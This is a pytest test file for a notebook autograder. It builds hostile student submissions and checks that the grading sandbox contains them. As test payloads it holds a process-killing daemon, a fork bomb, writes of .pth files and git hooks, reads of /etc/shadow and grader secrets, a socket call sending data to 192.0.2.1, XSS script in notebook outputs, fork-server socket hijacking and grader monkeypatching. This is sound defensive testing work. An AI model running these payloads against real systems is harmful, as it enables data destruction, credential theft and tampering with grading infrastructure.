"""Grading a class survives broken and hostile submissions, and each costs only its own points.

One run of the real grader command (`python -m tfcourse_instructor.grading grade --jobs 2`) on a
scratch course reduced to notebook 1 grades every submission below together with correct
ones. Each submission is the model solution with one kind of damage; its expected scores
come from the controls graded in the same run: `reference` (the model solution),
`bug-unscaled` (the model solution with one real bug, what a cheater's code deserves) and
`blank` (the release as received). Some attack the sandbox each submission runs in: they
write wherever the kit and its environment live, leave a daemon behind, exhaust memory and
processes, and call the network. Others take a shortcut q1_sdpa forbids (import the kit's
answer, call PyTorch's attention, openly, disguised or from a cell of their own;
tests/shortcut_cheats.py), beside one that only names them in a comment and a string.
Others probe what the sandbox shows: the host's files, another checkout of the course, the
instructor's references, the grader's environment; each would turn its buggy answer into the
right one if it could read any of them, so its score says whether it could. One composes
an exception message at grading time, which must not reach its feedback. One puts a fake fork
server in the real one's place, which names a process of the grader's as its kernel: no
process of the grader's may be signalled, and its checks keep their points. One sends
messages larger than the grader reads, an output and a check's answer: each is dropped
unread and named, and only the check whose answer was lost loses its points.
"""

from __future__ import annotations

import copy
import hashlib
import html
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import textwrap
import time
import uuid
from collections.abc import Callable
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

from tfcourse_instructor.grading.build.public_tests import hidden_cases
from tfcourse_instructor.grading.classroom.scores import read_scores
from tfcourse_instructor.grading.classroom.summary import load_records
from tfcourse_instructor.grading.course import Course
from tfcourse_instructor.grading.selftest.samples import NOISY, UNSCALED, reference_notebooks

from conftest import REPO, one_notebook_course, run_kit
from shortcut_cheats import CHEATS, mentions_only

pytestmark = pytest.mark.slow

NOTEBOOK = "01_attention"
CELL_SECONDS = 10  # the runaway cells run this long: the model solution's take under 2 s
LIMITS = (
    *("--jobs", "2", "--cell-timeout", str(CELL_SECONDS), "--notebook-timeout", "240"),
    *("--memory-mb", "2048", "--submission-memory-mb", "2560", "--processes", "200"),
)
DAEMON_MARKER = f"tfcourse-adversarial-daemon-{uuid.uuid4().hex}"
"""Found in the command line of the daemon a submission leaves behind."""
PASSING_TESTS = (
    "from otter.test_files import test_case\n"
    "OK_FORMAT = False\n"
    "name = 'q1_sdpa'\n"
    "@test_case(name='free points', points=8)\n"
    "def test_free():\n"
    "    pass\n"
)

GRADER_SECRET = f"grader-secret-{uuid.uuid4().hex}"
"""In the grader's environment while the class is graded (as TFCOURSE_GRADER_SECRET)."""
OTHER_CHECKOUT = Path("/var/tmp") / f"tfcourse-other-checkout-{uuid.uuid4().hex[:12]}"
"""Another checkout of the course on the grading machine: answers and hidden tests."""
MESSAGE_MARKER = "COMPOSED-WHILE-GRADED"

Notebook = nbformat.NotebookNode


def cell_index(notebook: Notebook, cell_id: str) -> int:
    return next(i for i, cell in enumerate(notebook.cells) if cell.get("id") == cell_id)


def add_cell(notebook: Notebook, after: str, source: str) -> None:
    """Insert a new code cell of the student's after the cell ``after``."""
    notebook.cells.insert(cell_index(notebook, after) + 1, nbformat.v4.new_code_cell(source))


def unscaled(notebook: Notebook) -> None:
    UNSCALED.apply({NOTEBOOK: notebook})


def syntax_error(notebook: Notebook) -> None:
    cell = notebook.cells[cell_index(notebook, "masks")]
    cell.source += "\n\ndef broken(:\n    pass\n"


def runaway(notebook: Notebook) -> None:
    add_cell(notebook, "sdpa", "while True:\n    pass")
    add_cell(
        notebook,
        "masks",
        "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n"
        "    except KeyboardInterrupt:\n        pass",
    )


def crashes(notebook: Notebook) -> None:
    add_cell(notebook, "sdpa", "import sys\nsys.exit(1)")
    add_cell(notebook, "masks", "blob = torch.ones(2**30)  # 4 GiB, twice the limit")
    add_cell(notebook, "heads", "import os\nos._exit(1)")


def rearranged(notebook: Notebook) -> None:
    cells = notebook.cells
    duplicate = copy.deepcopy(cells[cell_index(notebook, "sdpa")])
    duplicate.id = "sdpa-copy"
    cells.insert(cell_index(notebook, "sdpa") + 1, duplicate)  # copied cell, same grade id
    test = cells.pop(cell_index(notebook, "q1_heads"))
    cells.insert(cell_index(notebook, "setup") + 1, test)  # test moved above its code
    mha = cells[cell_index(notebook, "mha")]
    cells[cell_index(notebook, "mha")] = nbformat.v4.new_markdown_cell(
        mha.source, metadata=mha.metadata, id=mha.id
    )  # answer cell turned into markdown
    del cells[cell_index(notebook, "q1_sdpa")]  # test cell deleted
    del cells[cell_index(notebook, "masks")]  # answer deleted: q1_masks earns nothing


def patched(notebook: Notebook) -> None:
    """The buggy code, plus a cell that patches the grader, the assertions, `assert`'s
    exception, otter's test runner and the torch functions the tests compare with."""
    unscaled(notebook)
    add_cell(
        notebook,
        "sdpa",
        "import builtins\n"
        "import otter.test_files.exception_test as exception_test\n"
        "import tfcourse.assertions as assertions\n"
        "import tfcourse.checking as checking\n"
        "checking.CheckResult.__repr__ = lambda self: '8'\n"
        "type(grader).check = lambda self, question, env=None: 8\n"
        "grader.check = lambda question: 8\n"
        "assertions.expect = lambda *args, **kwargs: None\n"
        "assertions.expect_close = lambda *args, **kwargs: None\n"
        "builtins.AssertionError = type('Never', (Exception,), {})\n"
        "exception_test.test_case.call_func = lambda self, env: None\n"
        "torch.allclose = lambda *args, **kwargs: True\n"
        "F.scaled_dot_product_attention = lambda q, k, v, attn_mask=None: "
        "scaled_dot_product_attention(q, k, v)[0]\n",
    )


def stored_points(notebook: Notebook) -> None:
    """The buggy code, and in every test cell a stored output of 100 points (what nbgrader
    would read as the cell's score) with a look-alike of a passing report."""
    unscaled(notebook)
    for cell in notebook.cells:
        if cell.source.startswith("grader.check("):
            cell.outputs = [
                nbformat.v4.new_output(
                    "execute_result",
                    {
                        "text/plain": "100",
                        "text/html": "<div class='alert alert-success'>100 / 100</div>",
                    },
                    execution_count=1,
                )
            ]


def tampered_tests(notebook: Notebook) -> None:
    """The buggy code; the test cells edited and emptied; a cell that prints every test file
    it can find, rewrites them to pass, and writes a passing tests/q1_sdpa.py."""
    unscaled(notebook)
    notebook.cells[cell_index(notebook, "q1_sdpa")].source = "8"
    notebook.cells[cell_index(notebook, "q1_masks")].source = ""
    add_cell(
        notebook,
        "sdpa",
        "from pathlib import Path\n"
        "for found in sorted(Path.cwd().parents[2].rglob('q1_sdpa.py')):\n"
        "    print(found.read_text())\n"
        f"    found.write_text({PASSING_TESTS!r})\n"
        "Path('tests').mkdir(exist_ok=True)\n"
        f"Path('tests/q1_sdpa.py').write_text({PASSING_TESTS!r})\n",
    )


def escapes(notebook: Notebook) -> None:
    """The buggy code, and a cell that writes a passing test file, a `.pth` file and a git
    hook wherever the kit, its environment and the other submissions live."""
    unscaled(notebook)
    add_cell(
        notebook,
        "sdpa",
        "import site, sys\n"
        "from pathlib import Path\n"
        "import tfcourse\n"
        "kit = Path(tfcourse.__file__).resolve().parents[2]\n"
        "targets = [kit / 'authoring/01_attention/tests/q1_sdpa.py', kit / 'nbgrader_config.py',\n"
        "           kit / '.git/hooks/pre-commit', Path(site.getsitepackages()[0]) / 'zz.pth',\n"
        "           Path(tfcourse.__file__).parent / 'checking.py']\n"
        "targets += [p / 'submitted' for p in Path.cwd().parents]\n"
        "targets += list(Path.cwd().parents[2].rglob('*.py')) + [Path('/tmp/../etc/owned')]\n"
        "for target in targets:\n"
        "    try:\n"
        f"        Path(target).write_text({PASSING_TESTS!r})\n"
        "        print('WROTE', target)\n"
        "    except OSError:\n"
        "        pass\n",
    )


DAEMON = (
    "import os, signal, sys, time\n"
    "from pathlib import Path\n"
    "end = time.time() + 1500\n"
    "while time.time() < end:\n"
    "    for pid in range(100, 70000):\n"  # the grader's processes, if they were visible
    "        try: os.kill(pid, signal.SIGKILL)\n"
    "        except OSError: pass\n"
    "    for name in ('gradebook.db', 'grades.csv'):\n"
    "        for folder in [Path.cwd(), *Path.cwd().parents]:\n"
    "            try: (folder / name).write_text('owned')\n"
    "            except OSError: pass\n"
    "    time.sleep(1)\n"
)


def daemon(notebook: Notebook) -> None:
    """The buggy code, and a cell that leaves a daemon behind which, for 25 minutes, kills
    every process it can and rewrites any gradebook or grades file it finds."""
    unscaled(notebook)
    add_cell(
        notebook,
        "sdpa",
        "import subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', {DAEMON!r}, {DAEMON_MARKER!r}],\n"
        "                 start_new_session=True, stdin=subprocess.DEVNULL,\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
    )


def exhausts(notebook: Notebook) -> None:
    """The model solution, then (after its last check, so that what the limits do to its own
    kernel costs no point) cells that fork until a fork is refused, each child living until
    the forking ends (however slowly the machine forks), and hold 3 GiB in three child
    processes, each under the kernel's own limit."""
    add_cell(
        notebook,
        "q1_mha",
        "import os\n"
        "reading, writing = os.pipe()\n"
        "for _ in range(400):\n"
        "    try:\n"
        "        if os.fork() == 0:\n"
        "            os.close(writing)\n"
        "            os.read(reading, 1)  # until the parent closes its end\n"
        "            os._exit(0)\n"
        "    except OSError:\n"
        "        break\n"
        "os.close(writing)\n",
    )
    add_cell(
        notebook,
        "q1_mha",
        "import subprocess, sys\n"
        'hold = \'block = bytearray(2**30); block[::4096] = b"x" * len(block[::4096]); '
        "import time; time.sleep(5)'\n"
        "children = [subprocess.Popen([sys.executable, '-c', hold]) for _ in range(3)]\n"
        "print([child.wait() for child in children])\n",
    )


def calls_out(notebook: Notebook) -> None:
    """The model solution, and a cell that sends its answers to a server on the network."""
    add_cell(
        notebook,
        "sdpa",
        "import socket\n"
        "for address in (('192.0.2.1', 80), ('127.0.0.1', 22)):\n"
        "    try:\n"
        "        socket.create_connection(address, timeout=2).sendall(b'answers')\n"
        "    except OSError:\n"
        "        pass\n",
    )


SMUGGLED = "SMUGGLED-WHILE-GRADED"


def injects(notebook: Notebook) -> None:
    """The model solution; a written answer and stored outputs that carry scripts; and a cell
    whose output while graded differs from the one submitted (it would smuggle text)."""
    answer = next(
        cell
        for cell in notebook.cells
        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution")
    )
    answer.source += "\n<script>alert('owned')</script><img src=x onerror=alert('owned')>"
    script = "<script>alert('owned')</script>"
    add_cell(
        notebook,
        "sdpa",
        "import os\n"
        "from IPython.display import HTML, display\n"
        f"display(HTML({script!r}))\n"
        f"print({SMUGGLED[:4]!r} + {SMUGGLED[4:]!r} if os.environ.get('NBGRADER_EXECUTION')"
        " else 'my own run')\n",
    )
    index = cell_index(notebook, "sdpa") + 1
    notebook.cells[index].outputs = [
        nbformat.v4.new_output(
            "display_data", data={"text/html": script, "text/plain": "<HTML object>"}
        ),
        nbformat.v4.new_output("stream", name="stdout", text="my own run\n"),
    ]


def _correct_if(condition: str) -> Callable[[Notebook], None]:
    """The buggy code, and a cell that computes ``readable`` (``condition``: Python lines)
    and, when it found anything, defines the model answer instead: the score tells."""

    def damage(notebook: Notebook) -> None:
        answer = notebook.cells[cell_index(notebook, "sdpa")].source
        unscaled(notebook)
        model = textwrap.indent(answer.replace("### BEGIN SOLUTION\n", ""), "    ")
        add_cell(notebook, "sdpa", f"{condition}\nif readable:\n{model}\n")

    return damage


READS_HOST = _correct_if(
    "import os\n"
    "from pathlib import Path\n"
    "import tfcourse\n"
    "package = Path(tfcourse.__file__).resolve().parent\n"
    "paths = [\n"
    "    '/etc/shadow', '/etc/passwd', '/var/log',\n"
    "    str(package.parent / 'tfcourse_instructor/reference/attention.py'),\n"
    "    str(package.parents[1] / 'authoring/01_attention/tests/q1_sdpa.py'),\n"
    f"    '{OTHER_CHECKOUT}/authoring/01_attention/tests/q1_mha.py',\n"
    f"    '{OTHER_CHECKOUT}/source/01_attention/01_attention.ipynb',\n"
    "]\n"
    "readable = []\n"
    "for path in paths:\n"
    "    try:\n"
    "        readable.append(os.listdir(path) if os.path.isdir(path) else open(path).read(10))\n"
    "    except OSError:\n"
    "        pass\n"
)
READS_ENVIRONMENT = _correct_if(
    "import os\nreadable = [v for k, v in os.environ.items() if 'GRADER_SECRET' in k]\n"
)


def leaks_in_message(notebook: Notebook) -> None:
    """The model solution, but while graded its attention raises an exception whose message
    it composes then: what it could read, and a marker."""
    add_cell(
        notebook,
        "sdpa",
        "import os\n"
        "_honest = scaled_dot_product_attention\n"
        "def scaled_dot_product_attention(query, key, value, mask=None):\n"
        "    if os.environ.get('NBGRADER_EXECUTION'):\n"
        f"        found = {MESSAGE_MARKER[:8]!r} + {MESSAGE_MARKER[8:]!r}\n"
        "        for path in ('/etc/shadow', '/etc/passwd'):\n"
        "            try:\n"
        "                found += open(path).read(200)\n"
        "            except OSError:\n"
        "                pass\n"
        "        raise ValueError(found + repr(dict(os.environ)))\n"
        "    return _honest(query, key, value, mask)\n",
    )


VICTIM = "VICTIM-PID"
"""Replaced in the fake server's cell by the pid of a process of the grader's (the attacker
is assumed to know it)."""


def fake_fork_server(notebook: Notebook) -> None:
    """The model solution; after its last check, a daemon takes the fork server's socket
    and answers every kernel request with a process of the grader's as the kernel, and the
    kernel dies so that the grader starts another through it; a cell follows."""
    add_cell(notebook, "q1_mha", "print('after the restart')\n")
    add_cell(
        notebook,
        "q1_mha",
        "import os, socket, time\n"
        "path = None\n"
        "for line in open('/proc/self/mounts'):\n"  # the folder the sandbox shares holds it
        "    place = os.path.join(line.split()[1], 'fork.sock')\n"
        "    if os.path.exists(place):\n"
        "        path = place\n"
        "if path and os.fork() == 0:\n"
        "    os.setsid()\n"
        "    os.unlink(path)\n"
        "    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "    listener.bind(path)\n"
        "    listener.listen()\n"
        "    while True:\n"
        "        connection, _ = listener.accept()\n"
        "        connection.recv(1 << 20)\n"
        f"        connection.sendall(b'{VICTIM}\\n')\n"
        "        time.sleep(1)\n"
        "        connection.close()\n"
        "time.sleep(1)\n"
        "os._exit(1)\n",
    )


def floods_the_wire(notebook: Notebook) -> None:
    """The model solution; a cell prints 80 MiB (one output message); before q1_mha's check,
    a cell makes the kernel's agent answer the first request after it with 80 MiB (once in
    the sandbox: the kernel restarted after the loss does not do it again)."""
    add_cell(notebook, "sdpa", "print('x' * 80 * 2**20)\n")
    add_cell(
        notebook,
        "mha",
        "import os\n"
        "import tfcourse.grading_kernel.agent as agent\n"
        "_serve = agent.serve\n"
        "def flood(*args):\n"
        "    agent.serve = _serve\n"
        "    return 'x' * 80 * 2**20\n"
        "if not os.path.exists('/tmp/flooded'):\n"
        "    open('/tmp/flooded', 'w').close()\n"
        "    agent.serve = flood\n",
    )


def floods_on_replay(notebook: Notebook) -> None:
    """The model solution; a cell that prints nothing the first time it runs and 80 MiB when
    it runs again, and a later cell that kills the kernel: the restart replays the first
    cell, whose output then drops the grader's connection."""
    add_cell(
        notebook,
        "sdpa",
        "import os\n"
        "if os.path.exists('/tmp/ran-once'):\n"
        "    print('x' * 80 * 2**20)\n"
        "open('/tmp/ran-once', 'w').close()\n",
    )
    add_cell(notebook, "mha", "import os\nos._exit(1)")


def grading_aware(notebook: Notebook) -> None:
    """The buggy code, whose own run's check showed failing cases (its stored output), and a
    cell that puts the model answer in place only while graded (the variable's name is
    computed, so that no scan of the code finds it): its points cannot be told from honest
    ones, but the grader must hear that they differ from the student's own run."""
    answer = notebook.cells[cell_index(notebook, "sdpa")].source
    unscaled(notebook)
    model = textwrap.indent(answer.replace("### BEGIN SOLUTION\n", ""), "    ")
    add_cell(
        notebook,
        "sdpa",
        f"import os\nif os.environ.get('NBGRADER' + '_EXEC' + 'UTION'):\n{model}\n",
    )
    source = nbformat.read(REPO / "source" / NOTEBOOK / f"{NOTEBOOK}.ipynb", as_version=4)
    stored = copy.deepcopy(source.cells[cell_index(source, "q1_sdpa")].outputs)
    for output in stored:
        for kind, text in output.get("data", {}).items():
            output["data"][kind] = text.replace("PASSED", "FAILED")
    notebook.cells[cell_index(notebook, "q1_sdpa")].outputs = stored


def syntax_error_and_huge_output(notebook: Notebook) -> None:
    syntax_error(notebook)
    cell = notebook.cells[cell_index(notebook, "sdpa")]
    text = "x" * 1000 + "\n"
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=text * 8000)]


def noisy(notebook: Notebook) -> None:
    """Correct code that prints to stderr and warns while it is tested."""
    NOISY.apply({NOTEBOOK: notebook})


DAMAGE: dict[str, Callable[[Notebook], None]] = {
    "reference": lambda notebook: None,
    "bug-unscaled": unscaled,
    "escapes": escapes,
    "daemon": daemon,
    "exhausts": exhausts,
    "calls-out": calls_out,
    "injects": injects,
    "noisy-correct": noisy,
    "syntax-error": syntax_error_and_huge_output,
    "runaway": runaway,
    "crashes": crashes,
    "rearranged": rearranged,
    "tampered-tests": tampered_tests,
    "stored-points": stored_points,
    "patched": patched,
    "mentions-only": mentions_only,
    "reads-host": READS_HOST,
    "reads-environment": READS_ENVIRONMENT,
    "leaks-in-message": leaks_in_message,
    "fake-fork-server": fake_fork_server,
    "grading-aware": grading_aware,
    "floods-the-wire": floods_the_wire,
    "floods-on-replay": floods_on_replay,
    **{student: cheat for student, (cheat, _) in CHEATS.items()},
}


def write_submissions(course: Course, victim: int) -> None:
    reference = reference_notebooks(course)[NOTEBOOK]
    for student, damage in DAMAGE.items():
        folder = course.submitted_dir / student / course.assignment
        shutil.copytree(course.release_dir, folder)
        notebook = copy.deepcopy(reference)
        damage(notebook)
        text = nbformat.writes(notebook).replace(VICTIM, str(victim))
        (folder / f"{NOTEBOOK}.ipynb").write_text(text, encoding="utf-8")
    broken = course.submitted_dir / "invalid-json" / course.assignment
    shutil.copytree(course.release_dir, broken)
    (broken / f"{NOTEBOOK}.ipynb").write_text('{"cells": [ this is not json', encoding="utf-8")
    missing = course.submitted_dir / "missing-notebook" / course.assignment
    shutil.copytree(course.release_dir, missing)
    (missing / f"{NOTEBOOK}.ipynb").unlink()
    shutil.copytree(course.release_dir, course.submitted_dir / "blank" / course.assignment)


def kit_digest(course: Course) -> str:
    """A digest of every file a submission could try to tamper with for good: the graded
    course (its sources, release and configuration), the kit's checkout and environment."""
    digest = hashlib.sha256()
    site_packages = next(Path(sys.prefix).glob("lib/python*/site-packages"))
    roots = [course.root / "source", course.root / "release", REPO / "helpers", REPO / "source"]
    files = [course.root / "nbgrader_config.py", REPO / "nbgrader_config.py"]
    for root in [*roots, REPO / ".git" / "hooks"]:
        files += sorted(p for p in root.rglob("*") if p.is_file() and "__pycache__" not in p.parts)
    files += sorted(site_packages.glob("*.pth"))
    for path in files:
        digest.update(str(path).encode() + b"\0" + path.read_bytes())
    return digest.hexdigest()


def daemons_alive() -> list[int]:
    """Processes of the daemon a submission started (none may outlive its grading)."""
    alive = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and DAEMON_MARKER in (entry / "cmdline").read_text():
                alive.append(int(entry.name))
        except OSError:
            continue
    return alive


def other_checkout(course: Course) -> None:
    """Write the answers and hidden tests of ``course`` where another checkout would be."""
    (OTHER_CHECKOUT / "authoring" / NOTEBOOK).mkdir(parents=True)
    shutil.copytree(course.tests_dir, OTHER_CHECKOUT / "authoring" / NOTEBOOK / "tests")
    shutil.copytree(course.source_dir, OTHER_CHECKOUT / "source" / course.assignment)


@pytest.fixture(scope="module")
def host_process():
    """A process of the grader's, in a session of its own, that no submission may signal."""
    process = subprocess.Popen(["sleep", "3600"], start_new_session=True)
    yield process
    process.kill()
    process.wait()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, host_process):
    course = one_notebook_course(tmp_path_factory.mktemp("adversarial"))
    write_submissions(course, host_process.pid)
    other_checkout(course)
    before = kit_digest(course)
    start = time.monotonic()
    os.environ["TFCOURSE_GRADER_SECRET"] = GRADER_SECRET
    try:
        result = run_kit(course, "grade", *LIMITS)
    finally:
        del os.environ["TFCOURSE_GRADER_SECRET"]
        shutil.rmtree(OTHER_CHECKOUT, ignore_errors=True)
    seconds = time.monotonic() - start
    assert result.returncode == 0, result.stdout + result.stderr
    return course, result, before, seconds


def scores(course: Course, student: str) -> dict[str, float]:
    """Autograded score per question."""
    return {s.question: s.score for s in read_scores(course, [student]) if s.autograded}


def issues(course: Course, student: str) -> str:
    return "\n".join(str(issue) for issue in load_records(course)[student].issues)


def run_free(text: str) -> str:
    """Issues without what differs from one run to the next: counts, scratch folders (the
    run's, and each submission's, named by a digest keyed anew each run)."""
    text = re.sub(r"tfcourse-\d+-grading-\w+", "RUN", text)
    return re.sub(r"\d+", "N", re.sub(r"/students/\w+/", "/students/SCRATCH/", text))


def test_the_controls_score_as_expected(graded):
    course, *_ = graded
    full = {s.question: s.max_score for s in read_scores(course, ["reference"]) if s.autograded}
    assert scores(course, "reference") == full
    bug = scores(course, "bug-unscaled")
    assert 0 < bug["q1_sdpa"] < full["q1_sdpa"]
    assert scores(course, "noisy-correct") == full  # stderr and warnings cost nothing
    assert set(scores(course, "blank").values()) == {0.0}
    assert issues(course, "reference") == ""


@pytest.mark.parametrize(
    ("student", "deserves", "named"),
    [
        ("escapes", "bug-unscaled", ["tried to write outside its own folders"]),
        ("daemon", "bug-unscaled", ["left 1 process(es) running"]),
        ("exhausts", "reference", ["memory limit of the whole submission", "limit on processes"]),
        ("calls-out", "reference", ["tried to reach the network (2 time(s)"]),
        ("runaway", "reference", ["CellTimeoutError"]),
        ("crashes", "reference", ["SystemExit", "memory limit", "KernelDiedError"]),
        ("fake-fork-server", "reference", ["KernelDiedError", "KernelLostError", "os._exit"]),
        ("floods-on-replay", "reference", ["KernelDiedError", "os._exit"]),
        ("reads-host", "bug-unscaled", ["possible tampering", "q1_sdpa.py"]),
        ("grading-aware", "reference", ["q1_sdpa: public cases failed in the student's own run"]),
    ],
)
def test_limits_and_attacks_cost_only_what_they_touch_and_are_named(
    graded, student, deserves, named
):
    course, *_ = graded
    assert scores(course, student) == scores(course, deserves)
    found = issues(course, student)
    for words in named:
        assert words in found, found


def test_a_message_over_the_limit_is_dropped_unread_and_named(graded):
    course, *_ = graded
    expected = {**scores(course, "reference"), "q1_mha": 0.0}
    assert scores(course, "floods-the-wire") == expected
    found = issues(course, "floods-the-wire")
    dropped = [line for line in found.splitlines() if "larger than the grader reads" in line]
    assert len(dropped) == 2 and any("q1_mha" in line for line in dropped), found
    # The cells after it run in a fresh kernel, the cells before replayed but the one whose
    # output was over the limit: none waits for an output that can no longer come.
    assert "CellTimeoutError" not in found, found
    # The same when the replay itself floods: the grader connects again after it.
    replayed = issues(course, "floods-on-replay")
    assert "CellTimeoutError" not in replayed and "KernelLostError" not in replayed, replayed


def test_feedback_shows_what_the_student_submitted_and_runs_no_script(graded):
    course, *_ = graded
    page = course.root / "feedback" / "injects" / course.assignment / f"{NOTEBOOK}.html"
    text = page.read_text()
    assert "my own run" in text and SMUGGLED not in text
    assert "<script>alert" not in text and "onerror" not in text
    # Formgrader's manual grading shows the graded notebook: the outputs the student saw.
    graded_notebook = course.autograded_dir / "injects" / course.assignment / f"{NOTEBOOK}.ipynb"
    shown = graded_notebook.read_text()
    assert "my own run" in shown and SMUGGLED not in shown
    assert scores(course, "injects") == scores(course, "reference")


@pytest.mark.parametrize("student", ["reads-host", "reads-environment"])
def test_nothing_of_the_host_or_the_grader_is_readable_from_a_kernel(graded, student):
    course, *_ = graded
    assert scores(course, student) == scores(course, "bug-unscaled")


def test_text_composed_while_graded_never_reaches_feedback(graded):
    course, *_ = graded
    reference = scores(course, "reference")
    own = scores(course, "leaks-in-message")
    assert own["q1_sdpa"] == 0 and own["q1_masks"] == reference["q1_masks"]
    for folder in (course.root / "feedback", course.autograded_dir):
        for page in (folder / "leaks-in-message").rglob("*"):
            if page.is_file():
                text = page.read_text(errors="replace")
                assert MESSAGE_MARKER not in text and GRADER_SECRET not in text, page


def test_no_process_of_the_grader_was_signalled(graded, host_process):
    assert host_process.poll() is None
    os.kill(host_process.pid, 0)
    assert os.getpgid(host_process.pid) == host_process.pid


def test_no_file_of_the_course_kit_or_environment_changed(graded):
    course, _, before, _ = graded
    assert kit_digest(course) == before


def test_nothing_a_submission_started_outlives_the_run(graded):
    *_, seconds = graded
    assert daemons_alive() == []
    # A run the daemon held up would last longer than the daemon lives.
    assert seconds < 1200, "the daemon (alive for 25 minutes) held up the run"


def test_a_limit_is_explained_in_the_feedback(graded):
    course, *_ = graded
    page = course.root / "feedback" / "runaway" / course.assignment / f"{NOTEBOOK}.html"
    assert f"ran longer than the limit of {CELL_SECONDS} s per cell" in page.read_text()


def test_feedback_written_in_parallel_shows_each_student_their_own_score(graded):
    course, *_ = graded
    with Gradebook(f"sqlite:///{course.gradebook}") as gradebook:
        totals = {
            student: gradebook.find_submission_notebook(NOTEBOOK, course.assignment, student)
            for student in DAMAGE
        }
        headings = {
            student: f"{NOTEBOOK} (Score: {round(nb.score, 2)} / {round(nb.max_score, 2)})"
            for student, nb in totals.items()
        }
    assert len(set(headings.values())) > 1  # the controls differ, so a mix-up would show
    for student, heading in headings.items():
        page = course.root / "feedback" / student / course.assignment / f"{NOTEBOOK}.html"
        assert heading in page.read_text(), student


def test_a_syntax_error_costs_its_question_and_huge_outputs_nothing(graded):
    course, *_ = graded
    own = scores(course, "syntax-error")
    assert own["q1_masks"] == 0
    assert own["q1_sdpa"] == scores(course, "reference")["q1_sdpa"]
    assert "SyntaxError" in issues(course, "syntax-error")
    assert "huge stored outputs" in issues(course, "syntax-error")


def test_deleted_copied_moved_and_retyped_cells_are_repaired(graded):
    course, *_ = graded
    expected = dict(scores(course, "reference"), q1_masks=0.0)  # its answer was deleted
    assert scores(course, "rearranged") == expected
    found = issues(course, "rearranged")
    for words in ("'sdpa' appears 2 times", "moved", "changed to markdown", "'masks' was deleted"):
        assert words in found, found


@pytest.mark.parametrize("student", ["tampered-tests", "patched", "stored-points"])
def test_tampering_earns_only_what_the_code_deserves(graded, student):
    course, *_ = graded
    deserved = scores(course, "bug-unscaled")
    assert scores(course, student)["q1_sdpa"] == deserved["q1_sdpa"]
    assert issues(course, student), "the summary must name the problem"


@pytest.mark.parametrize("student", sorted(CHEATS))
def test_a_forbidden_shortcut_scores_zero_with_one_line_in_feedback_and_summary(graded, student):
    course, result, *_ = graded
    line = CHEATS[student][1]
    own, reference = scores(course, student), scores(course, "reference")
    assert own["q1_sdpa"] == 0
    # q1_mha's answer calls this one, so it reaches the forbidden call too.
    untouched = set(reference) - {"q1_sdpa", "q1_mha"}
    assert {q: own[q] for q in untouched} == {q: reference[q] for q in untouched}
    assert f"{NOTEBOOK}: {line}" in issues(course, student).splitlines()
    assert any(
        row.split()[:1] == [student] and row.endswith(line) for row in result.stdout.splitlines()
    )
    page = course.root / "feedback" / student / course.assignment / f"{NOTEBOOK}.html"
    assert html.escape(line) in page.read_text()


def test_the_rule_not_the_tests_zeroes_a_shortcut_that_computes_the_right_values(graded):
    course, *_ = graded
    page = course.root / "feedback" / "cheat-pytorch" / course.assignment / f"{NOTEBOOK}.html"
    report = page.read_text().split(html.escape(CHEATS["cheat-pytorch"][1]))[1]
    assert "PASSED" in report.split("q1_masks")[0]


def test_naming_a_forbidden_call_in_a_comment_or_string_costs_nothing(graded):
    course, *_ = graded
    assert scores(course, "mentions-only") == scores(course, "reference")
    assert issues(course, "mentions-only") == ""


def test_unreadable_or_missing_notebooks_score_zero_and_are_named(graded):
    course, *_ = graded
    for student, words in (
        ("invalid-json", "not a valid notebook"),
        ("missing-notebook", "missing"),
    ):
        assert set(scores(course, student).values()) == {0.0}
        # One line, not the errors of grading the blank release in its place.
        assert words in issues(course, student) and "\n" not in issues(course, student)
        page = course.root / "feedback" / student / course.assignment / f"{NOTEBOOK}.html"
        assert "Not graded: " in page.read_text(encoding="utf-8")


def test_the_summary_lists_every_damaged_submission_and_no_control(graded):
    _, result, *_ = graded
    attention = result.stdout.split("need attention:")[1]
    flagged = {line.split()[0] for line in attention.splitlines() if line.startswith("  ")}
    honest = {"reference", "bug-unscaled", "noisy-correct", "mentions-only"}
    # Reading a variable that is not there leaves no trace a grader needs: it earns what its
    # code earns and changes nothing.
    found_nothing = {"reads-environment"}
    damaged = set(DAMAGE) - honest - found_nothing
    assert flagged == damaged | {"invalid-json", "missing-notebook"}


def test_hidden_tests_never_reach_feedback_even_when_printed(graded):
    course, *_ = graded
    hidden = []
    for path in course.tests_dir.glob("q1_*.py"):
        source = path.read_text().splitlines()
        for case in hidden_cases("\n".join(source)):
            hidden += [line.strip() for line in source[case.lineno : case.end_lineno]]
    # Lines students may see anyway: in the release notebooks or its public tests.
    public = "".join(p.read_text() for p in course.release_dir.rglob("*") if p.is_file())
    hidden = [line for line in hidden if len(line) > 30 and line not in public]
    assert hidden
    pages = list((course.root / "feedback").rglob("*"))
    assert all(p.suffix == ".html" for p in pages if p.is_file())
    for page in (p for p in pages if p.is_file()):
        text = page.read_text()
        assert not any(line in text for line in hidden), page


def test_the_class_gradebook_is_intact(graded):
    course, *_ = graded
    with sqlite3.connect(course.gradebook) as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        (count,) = db.execute("SELECT COUNT(*) FROM submitted_assignment").fetchone()
    assert count == len(DAMAGE) + 3


def test_parallel_grades_equal_serial_grades_and_forced_regrades(graded, tmp_path):
    """The attacks whose effect depends on timing and on what the sandbox keeps between
    kernels, graded again in a course of their own: one at a time, then all again with
    --force, two at a time. Every grade and every issue is the class run's."""
    course, *_ = graded
    serial = Course(tmp_path / "serial", course.assignment)
    shutil.copytree(
        course.root,
        serial.root,
        ignore=shutil.ignore_patterns(
            "submitted", "autograded", "feedback", "gradebook.db", "*.csv", "*.json"
        ),
    )
    students = ("patched", "crashes", "fake-fork-server", "floods-the-wire")
    for student in students:
        shutil.copytree(course.submitted_dir / student, serial.submitted_dir / student)
    result = run_kit(serial, "grade", *LIMITS[2:], "--jobs", "1")
    assert result.returncode == 0, result.stdout + result.stderr
    for student in students:
        assert scores(serial, student) == scores(course, student), student
